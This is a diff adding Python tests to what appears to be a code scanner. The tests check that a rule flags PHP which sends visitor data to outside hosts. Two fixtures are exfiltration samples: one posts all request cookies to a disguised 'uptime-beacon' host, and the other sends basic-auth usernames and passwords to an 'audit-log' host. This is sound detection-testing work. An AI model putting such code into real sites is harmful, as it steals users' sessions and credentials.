@@ -222,3 +222,35 @@ def test_lua_table_of_colour_values_over_lines_does_not_block(tmp_path: Path) ->
         "for i, v in ipairs(ramp) do print(i, string.char(v)) end\n"
     )
     assert blocking(tmp_path, {"ramp.lua": lua}) == {}
+
+
+# ------------------------------------------------ a site's visitors' sessions sent elsewhere
+
+
+def test_php_all_cookies_of_each_request_posted_out_blocks(tmp_path: Path) -> None:
+    php = (
+        "<?php\n"
+        "$ch = curl_init('https://uptime-beacon.example.test/hit');\n"
+        "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['k' => $_COOKIE]));\n"
+        "curl_exec($ch);\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"beacon.php": php})
+
+
+def test_php_basic_auth_password_sent_out_blocks(tmp_path: Path) -> None:
+    php = (
+        "<?php\n"
+        "$u = $_SERVER['PHP_AUTH_USER'] ?? ''; $p = $_SERVER['PHP_AUTH_PW'] ?? '';\n"
+        "file_get_contents('https://audit-log.example.test/a?u=' . urlencode($u) . '&p=' . urlencode($p));\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"auth.php": php})
+
+
+def test_php_one_named_cookie_and_an_api_call_does_not_block(tmp_path: Path) -> None:
+    php = (
+        "<?php\n"
+        "$theme = $_COOKIE['theme'] ?? 'light';\n"
+        "$w = json_decode(file_get_contents('https://api.weather.example.test/v1/now?city=Oslo'), true);\n"
+        "echo \"<body class='$theme'>\" . htmlspecialchars($w['summary']) . '</body>';\n"
+    )
+    assert blocking(tmp_path, {"index.php": php}) == {}
